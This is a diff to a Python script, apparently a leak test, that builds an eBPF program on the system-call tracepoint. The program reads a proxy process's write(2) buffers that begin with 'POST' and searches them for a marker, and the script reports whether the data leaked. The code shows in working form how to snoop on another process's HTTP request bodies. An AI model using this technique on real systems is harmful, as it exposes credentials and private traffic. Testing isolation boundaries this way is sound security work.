@@ -1,11 +1,12 @@
 # Root with CAP_SYS_ADMIN and without CAP_BPF: a program at the tracepoint of system calls runs inside the proxy, and
-# reads there the second part of what it writes with writev(2). x86-64. Prints `trace leak`, `trace nothing` or an errno.
+# reads there what it writes with write(2) and begins with POST. x86-64. Prints `trace leak`, `trace nothing` or an errno.
 # argv: the proxy's uid, the needle in hex, and who shall be asked for an answer meanwhile (no socket: only try).
 import ctypes, errno, socket, struct, sys
 
 libc = ctypes.CDLL(None, use_errno=True)
 libc.syscall.restype = ctypes.c_long
-SIZE, WRITEV, SI, SAMPLE = 4096, 20, 104, 2048
+SIZE, WRITE, SI, SAMPLE = 4096, 1, 104, 2048
+POST = int.from_bytes(b"POST", "little")
 MAP_CREATE, MAP_LOOKUP, PROG_LOAD, RAW_TRACEPOINT_OPEN = 0, 1, 5, 17
 GET_UID, READ_KERNEL, READ_USER, LOOKUP = 15, 113, 112, 1
 
@@ -34,19 +35,20 @@ def program(uid, table):
         line(0x77, 0, imm=32),
         ("unless", 0, uid),
         line(0x79, 2, 6, 8),  # r2 = number
-        ("unless", 2, WRITEV),
+        ("unless", 2, WRITE),
         line(0x79, 3, 6, 0),  # r3 = registers
         line(0x07, 3, imm=SI),
         line(0xBF, 1, 10),
         line(0x07, 1, imm=-8),
         line(0xB7, 2, imm=8),
         call(READ_KERNEL),
-        line(0x79, 3, 10, -8),  # r3 = the iovec array
-        line(0x07, 3, imm=16),
+        line(0x79, 3, 10, -8),  # r3 = the bytes
         line(0xBF, 1, 10),
         line(0x07, 1, imm=-24),
-        line(0xB7, 2, imm=16),
+        line(0xB7, 2, imm=4),
         call(READ_USER),
+        line(0x61, 2, 10, -24),
+        ("unless", 2, POST),
         line(0x62, 10, off=-28),
         line(0x18, 1, 1, imm=table),
         line(0),
@@ -56,7 +58,7 @@ def program(uid, table):
         ("if zero", 0, 0),
         line(0xBF, 1, 0),
         line(0xB7, 2, imm=SAMPLE),
-        line(0x79, 3, 10, -24),
+        line(0x79, 3, 10, -8),
         call(READ_USER),
     ]
     jumps = {"unless": 0x55, "if zero": 0x15}
